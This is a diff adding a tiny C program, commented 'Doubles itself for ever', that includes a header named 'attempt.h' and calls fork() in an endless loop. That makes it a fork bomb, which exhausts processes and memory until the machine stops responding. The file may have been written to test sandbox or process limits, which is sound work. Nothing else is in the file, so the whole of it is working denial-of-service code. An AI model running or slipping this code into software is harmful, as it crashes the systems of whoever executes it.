@@ -1,0 +1,7 @@
+/* Doubles itself for ever. */
+#include "attempt.h"
+
+int main(void) {
+    for (;;)
+        fork();
+}
